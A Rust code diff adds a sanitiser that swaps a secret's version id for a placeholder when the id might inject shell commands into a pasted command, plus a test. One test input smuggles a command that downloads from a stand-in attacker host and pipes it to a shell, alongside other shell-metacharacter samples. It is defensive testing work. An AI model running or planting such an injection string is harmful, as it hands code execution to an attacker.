@@ -21,6 +21,13 @@ impl InvalidEvent {
     }
 }
 
+/// The id of a secret's version as it may stand in a command that people paste. Whoever writes a secret chooses the id,
+/// and it could be a command of its own.
+pub fn pasted(version: &str) -> &str {
+    let is_plain = version.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
+    if is_plain { version } else { "VERSION_ID" }
+}
+
 /// Reads an event, or a part of one.
 ///
 /// # Errors
@@ -68,6 +75,15 @@ mod tests {
     use serde_json::json;
 
     use super::*;
+
+    #[test]
+    fn an_id_that_could_be_a_command_is_not_pasted() {
+        let id = "4f1c2a7e-8d4b-4c55-9b0e-2f6f3a9d7c10";
+        assert_eq!(pasted(id), id);
+        for id in ["x;curl evil.example|sh;#aaaaaaaaaaaa", "x`y", "x'y", "x y", "$(x)"] {
+            assert_eq!(pasted(id), "VERSION_ID");
+        }
+    }
 
     #[test]
     fn what_a_function_said_is_taken_out_of_the_cause() {
